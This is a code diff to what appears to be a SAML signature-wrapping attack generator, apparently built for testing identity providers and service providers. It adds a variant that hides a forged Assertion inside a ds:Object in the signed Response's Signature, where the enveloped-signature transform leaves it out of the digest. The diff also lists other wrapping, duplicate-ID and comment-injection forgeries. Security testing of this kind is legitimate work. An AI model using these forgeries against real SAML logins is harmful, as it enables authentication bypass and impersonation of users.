@@ -60,6 +60,8 @@ VARIANTS = {
     "object": "an evil Assertion in the signed one's place whose Signature copy holds the original in a "
               "ds:Object (signed Assertion)",
     "wrap-response": "an evil Response wrapping the signed Response in its Signature's ds:Object (signed Response)",
+    "signature-object": "an evil Assertion in a ds:Object inside the signed Response's own Signature, which the "
+                        "enveloped-signature transform leaves out of the digest (signed Response)",
     "duplicate-id": "an evil Assertion with the signed one's ID and a copy of its Signature, the original "
                     "moved into Extensions (signed Assertion)",
     "comment-in-nameid": "an XML comment inserted into the NameID after signing (canonicalisation drops it)",
@@ -143,7 +145,7 @@ def xmlsec_sign(xml, node_name, node_id, key):
 
 
 # The attacks that start from a signed Response, and those that start from a signed Assertion.
-SIGNED_PART = {"evil-beside-signed-response": "response", "wrap-response": "response",
+SIGNED_PART = {"evil-beside-signed-response": "response", "wrap-response": "response", "signature-object": "response",
                "evil-before": "assertion", "extensions": "assertion", "object": "assertion",
                "duplicate-id": "assertion"}
 
@@ -256,6 +258,11 @@ def attack(doc, variant):
                 evil_root.appendChild(child.cloneNode(True))
         doc.replaceChild(evil_root, original)
         obj.appendChild(original)
+    elif variant == "signature-object":
+        sig = children(root, DSIG, "Signature")[0]
+        obj = doc.createElementNS(DSIG, (sig.prefix + ":" if sig.prefix else "") + "Object")
+        obj.appendChild(evil_copy(doc, assertion))
+        sig.appendChild(obj)
     elif variant == "comment-in-nameid":
         name_id = first(root, SAML, "NameID")
         text = name_id.firstChild.data
